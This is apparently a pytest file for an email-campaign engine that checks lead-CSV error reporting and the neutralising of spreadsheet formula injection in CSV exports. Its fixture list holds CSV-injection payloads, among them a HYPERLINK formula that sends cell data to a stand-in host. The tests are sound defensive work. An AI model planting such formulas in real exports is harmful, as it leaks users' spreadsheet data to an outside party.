"""Input and output hygiene as a user meets it: the lead CSV, the CSV exports, passwords, file modes."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import aiohttp

from engine.control.server import ControlServer
from engine.control.service import EngineService
from engine.delivery.smtp import SmtpSettings
from engine.leads.csv_safe import neutralise, restore
from engine.runtime.runner import RunnerSettings
from engine.store.database import Database
from tests.conftest import FLOWS

MAILBRANCH = Path(sys.executable).parent / "mailbranch"
SECRET = "s3cret-for-this-launch-only-0123456789"


def mb(tmp_path: Path, *args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    environment = {**os.environ, "MAILBRANCH_HOME": str(tmp_path / "home"), "NO_COLOR": "1", "COLUMNS": "200",
                   **(env or {})}
    return subprocess.run([str(MAILBRANCH), *args], env=environment, capture_output=True, text=True, timeout=60)


# -- the lead CSV ------------------------------------------------------------------------------------------

def test_simulate_reports_an_unterminated_quote_by_line_and_imports_the_rows_after_it(tmp_path):
    rows = ["email,name"] + [f"u{i}@example.com,User {i}" for i in range(1, 101)]
    rows[10] = 'u10@example.com,"User 10'
    leads = tmp_path / "leads.csv"
    leads.write_text("\n".join(rows) + "\n", encoding="utf-8")
    done = mb(tmp_path, "simulate", str(FLOWS / "flow-a.json"), "--leads", str(leads))
    assert done.returncode == 0, done.stderr
    assert "line 11: a quote (\") opens a value on this line and never closes" in done.stderr
    assert "Leads: 99 added, 0 merged, 1 rejected" in done.stderr
    assert "99 leads" in done.stdout


# -- CSV exports -------------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-2+3", "@SUM(1+1)", "\t=1", "\r=1"]


def test_the_report_export_neutralises_formula_prefixes_in_lead_values(tmp_path):
    async def scenario() -> tuple[str, str]:
        db = Database(tmp_path / "engine.db")
        service = EngineService(db, RunnerSettings(SmtpSettings.from_url("sandbox"), grace_ms=0, poll_seconds=0.05))
        server = ControlServer(service, SECRET)
        await service.start()
        await server.start()
        auth = {"Authorization": f"Bearer {SECRET}"}
        base = f"http://127.0.0.1:{server.port}"
        leads = [{"key": key, "email": f"lead{i}@example.com"} for i, key in enumerate(FORMULAS)]
        leads.append({"key": "plain", "email": "=cmd@example.com"})  # '=' is allowed in an address
        try:
            async with aiohttp.ClientSession(headers=auth) as http:
                flow = json.loads((FLOWS / "flow-a.json").read_text())
                async with http.post(f"{base}/campaigns", json={"flow": flow, "leads": leads, "simulated": True,
                                                                  "speed": 10_000_000}) as r:
                    campaign = (await r.json())["id"]
                async with asyncio.timeout(60):
                    while True:
                        async with http.get(f"{base}/campaigns/{campaign}") as r:
                            if (await r.json())["complete_at"]:
                                break
                        await asyncio.sleep(0.05)
                async with http.get(f"{base}/campaigns/{campaign}/export?per=lead") as r:
                    per_lead = await r.text()
                async with http.get(f"{base}/campaigns/{campaign}/export?per=node") as r:
                    per_node = await r.text()
        finally:
            await server.stop()
            await service.stop()
            db.dispose()
        return per_lead, per_node

    per_lead, per_node = asyncio.run(scenario())
    cells = [cell for row in csv.reader(io.StringIO(per_lead, newline="")) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], per_lead
    keys = {row[0] for row in csv.reader(io.StringIO(per_lead, newline=""))}
    assert {"'" + formula for formula in FORMULAS} <= keys
    assert any(row[1] == "'=cmd@example.com" for row in csv.reader(io.StringIO(per_lead, newline="")))
    assert "plain" in keys and "e1" in per_node


def test_neutralised_cells_read_back_unchanged_and_numbers_stay_numbers():
    for value in [*FORMULAS, "'=already quoted", "plain", "O'Brien", ""]:
        assert restore(neutralise(value)) == value
    assert neutralise(-3) == -3 and neutralise(None) is None
